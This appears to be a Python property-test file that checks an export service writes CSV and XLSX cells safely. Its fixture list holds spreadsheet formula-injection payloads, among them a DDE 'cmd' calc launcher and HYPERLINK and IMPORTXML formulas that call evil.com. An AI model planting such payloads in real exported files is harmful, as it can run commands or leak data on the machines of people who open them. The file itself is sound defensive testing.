"""P26, `export-safe`: nothing foreign in a file is a formula, numbers stay numbers, and texts read back as they were."""

import contextlib
import csv
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from random import Random
from tempfile import TemporaryDirectory
from xml.etree.ElementTree import ParseError

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from xlsxwriter.worksheet import Worksheet

from domain.exports import Column, FileForm
from services import table_files
from tests.proofs.hostile import hostile
from tests.proofs.trial import Trial
from tests.proofs.verdict import Verdict

COLUMNS = (Column("text"), Column("price", is_number=True))
BEGINS = "=+-@\t\r\n＝＋－＠"
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("http://evil.com","x")', "=cmd|' /C calc'!A0", '=IMPORTXML("http://evil.com","//a")',
    '",=1+1', "'=1+1", " =1+1", "-2+3+cmd|' /C calc'!A0", "{=1+1}", "https://evil.com", "1e9", "00017",
)  # fmt: skip
LONGEST = 16_383
Rows = Sequence[tuple[str, str]]


async def export_safe(trial: Trial) -> Verdict:
    """P26: what is written to CSV and XLSX is read back by other people's readers."""
    verdict, random = trial.verdict(), trial.random
    texts = [*FORMULAS, *(hostile(random)[1] for _ in range(trial.size(20_000, 100_000)))]
    rows = [(text.replace("\0", ""), _number(random)) for text in texts]
    with TemporaryDirectory(prefix="storesync-proof-") as folder, _sabotage(trial):
        written = Path(folder) / "rows"
        table_files.write_rows(written, COLUMNS, rows)
        for form, judge in ((FileForm.CSV, _judge_csv), (FileForm.XLSX, _judge_xlsx)):
            made = Path(folder) / f"made.{form}"
            table_files.main(form, written, made)
            judge(made, rows, verdict)
            verdict.trials += len(rows)
    return verdict


def _number(random: Random) -> str:
    return str(Decimal(random.randint(-(10**9), 10**12)).scaleb(-random.choice((0, 2))))


def _judge_csv(made: Path, rows: Rows, verdict: Verdict) -> None:
    with made.open(encoding="utf-8-sig", newline="") as read:
        _, *found = csv.reader(read)
    verdict.check(len(found) == len(rows), f"csv: {len(found)} rows of {len(rows)}")
    for (text, number), (cell, price) in zip(rows, found, strict=True):
        verdict.check(not cell.startswith(tuple(BEGINS)), f"csv: {cell[:40]!r} begins as a formula does")
        shown = cell[1:] if cell.startswith("'") and text[:1] in BEGINS else cell
        verdict.check(shown == _whole(text), f"csv: {text[:40]!r} became {cell[:40]!r}")
        verdict.check(price == number, f"csv: {number} became {price!r}")


def _judge_xlsx(made: Path, rows: Rows, verdict: Verdict) -> None:
    try:
        _, *found = load_workbook(made).worksheets[0].iter_rows()
    except ParseError as broken:
        verdict.check(False, f"xlsx: cannot be opened: {broken}")
        return
    verdict.check(len(found) == len(rows), f"xlsx: {len(found)} rows of {len(rows)}")
    for (text, number), (cell, price) in zip(rows, found, strict=True):
        verdict.check(cell.data_type != "f", f"xlsx: {text[:40]!r} is a formula")
        verdict.check(cell.hyperlink is None, f"xlsx: {text[:40]!r} is a link")
        read = unescape(str(cell.value or ""))
        verdict.check(read == _whole(text), f"xlsx: {text[:40]!r} became {read[:40]!r}")
        verdict.check(Decimal(str(price.value)) == Decimal(number), f"xlsx: {number} became {price.value!r}")


def _whole(text: str) -> str:
    """Return a text as a file can hold it: half an emoji is no character, and a cell has an end."""
    return text[:LONGEST].encode("utf-8", "replace").decode()


@contextlib.contextmanager
def _sabotage(trial: Trial) -> Iterator[None]:
    """Write texts as they are, and let the spreadsheet guess what they mean."""
    with pytest.MonkeyPatch.context() as patch:
        if trial.is_broken:
            patch.setattr(table_files, "_plain", lambda cell, _: cell or "")
            patch.setattr(Worksheet, "write_string", Worksheet.write)
        yield
